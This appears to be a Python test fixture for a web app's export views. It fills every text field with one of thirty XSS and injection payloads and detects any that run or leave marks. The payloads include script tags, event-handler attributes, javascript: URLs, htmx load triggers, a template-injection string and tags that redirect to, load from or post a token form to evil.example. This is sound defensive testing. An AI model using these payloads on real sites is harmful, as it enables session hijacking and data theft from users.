"""Text that would run, load or leave if any page took it for anything but text."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from tests import exports

# Each calls hit() or leaves a mark if it is ever taken for markup, an address or a template.
PAYLOADS = (
    "<script>hit(1)</script>",
    '"><script>hit(2)</script>',
    "'><img src=x onerror=hit(3) data-hit>",
    '" onmouseover="hit(4)" onfocus="hit(4)" autofocus data-hit="',
    "' onload='hit(5)' data-hit='",
    "<svg/onload=hit(6) data-hit>",
    "</textarea><script>hit(7)</script>",
    "</title><script>hit(8)</script>",
    "</script><script>hit(9)</script>",
    "--><img src=x onerror=hit(10) data-hit>",
    '<iframe srcdoc="<script>parent.hit(11)</script>" data-hit></iframe>',
    '<a href="javascript:hit(12)" data-hit>open</a>',
    "javascript:hit(13)",
    '" hx-get="/settings" hx-trigger="load" data-hit="',
    '<div hx-get="//evil.example" hx-trigger="load" data-hit></div>',
    '" hx-on::load="hit(16)" data-hit="',
    '<meta http-equiv="refresh" content="0;url=//evil.example" data-hit>',
    '<base href="//evil.example/" data-hit>',
    "<style>@import '//evil.example/x.css'</style>",
    '<link rel="stylesheet" href="//evil.example/y.css" data-hit>',
    "<details open ontoggle=hit(21) data-hit>",
    "<math><mtext><img src=x onerror=hit(22) data-hit></mtext></math>",
    '<form action="//evil.example" data-hit><input name=token></form>',
    '<object data="javascript:hit(24)" data-hit></object>',
    "{{ 7|add:7 }}{% include 'x' %}${hit(25)}",
    "\u2028hit(26)//\u202e<b data-hit>",
    "&lt;script&gt;hit(27)&lt;/script&gt;<b data-hit>",
    "<scr<script>ipt>hit(28)</script>",
    "%3Cscript%3Ehit(29)%3C/script%3E",
    '<input autofocus onfocus="hit(30)" data-hit>',
)

# Runs before anything of a page does.
WATCH = """
  window.hits = [];
  window.hit = (n) => window.hits.push('ran ' + n);
  addEventListener('securitypolicyviolation',
    (e) => window.hits.push(`policy: ${e.violatedDirective} ${e.blockedURI} ${e.sample}`));
"""
# What only markup of somebody else's making could have left in a page.
MARKS = """() => {
  for (const d of document.querySelectorAll('details')) d.open = true;
  const said = [...window.hits];
  for (const e of document.querySelectorAll('*')) {
    for (const a of e.attributes) {
      if (/^on|^hx-on|^data-hit/i.test(a.name)) said.push(`<${e.localName} ${a.name}>`);
      if (/^(href|src|action|formaction|data|hx-get|hx-post|srcdoc)$/i.test(a.name)
          && /^\\s*(javascript:|data:|(https?:)?\\/\\/(?!localhost))/i.test(a.value))
        said.push(`<${e.localName} ${a.name}="${a.value}">`);
    }
    if (/^(iframe|object|embed|base|math)$/.test(e.localName)) said.push(`<${e.localName}>`);
    if (e.localName === 'meta' && e.httpEquiv === 'refresh') said.push('<meta refresh>');
  }
  if (document.body.innerText.includes('14${hit')) said.push('a template was rendered');
  return said;
}"""


def portfolio(directory: Path) -> Path:
    """Exports in which each text field of engagement ``n`` holds payload ``n``."""
    rows = [_rows(number, payload) for number, payload in enumerate(PAYLOADS)]
    files = {name: [row for each in rows for row in each[name]] for name in rows[0]}
    exports.write(directory, **{name: json.dumps(found) for name, found in files.items()})
    return directory


def _rows(number: int, text: str) -> dict[str, list[dict[str, Any]]]:
    """One engagement in trouble, so that every card has something to say of it."""
    key = f"E{number}{text}"[:60]
    who = {"id": f"P{number}{text}"[:60], "name": text, "role": text}
    given = {"engagement_id": key, "owner_id": who["id"]}
    said = f"We are blocked: {text} access to the environment is still missing. Escalated."
    return {
        "engagements": [
            exports.engagement(
                number, **given, customer_name=f"{number} {text}", engagement_type=text,
                owner_name=text, team_members=[who], industry=text, region=text, health_score=95,
            )
        ],
        "tasks": [
            exports.task(
                number, **given, task_id=f"T{number}{text}"[:60], name=f"{text} sign-off",
                phase=text[:90], end_date="2026-09-20", is_milestone=True,
            ),
            exports.task(number + 1000, **given, name=text, status="Blocked"),
            exports.task(number + 2000, **given, name=text, status="Completed"),
            # One that cannot be taken, and is told of with its values.
            exports.task(number + 3000, **given, task_id=f"X{text}"[:60], status=text, name=text),
        ],
        "delivery_notes": [
            exports.note(
                number * 10 + at, engagement_id=key, note_id=f"N{number}-{at}{text}"[:60],
                author_id=who["id"], content=said, created_at=f"2026-10-0{1 + at}T10:00:00",
            )
            for at in range(3)
        ],
        "notebook_usage": [
            exports.usage(number, engagement_id=key, user_id=who["id"], notebook_name=text)
        ],
        "team_members": [who],
        "ai_insights": [
            {
                "insight_id": f"I{number}{text}"[:60], "engagement_id": key, "content": text,
                "insight_type": "theme_extraction", "generated_at": "2026-10-01T10:00:00",
            }
        ],
        "adoption_metrics": [{"date": f"2026-09-{1 + number % 28:02}", "role": text[:60]}],
        "ai_metrics": [
            {
                "metric_id": f"M{number}{text}"[:60], "date": "2026-10-01", "role": text[:60],
                "insight_type": "theme_extraction", "insights_generated": 1,
            }
        ],
    }  # fmt: skip
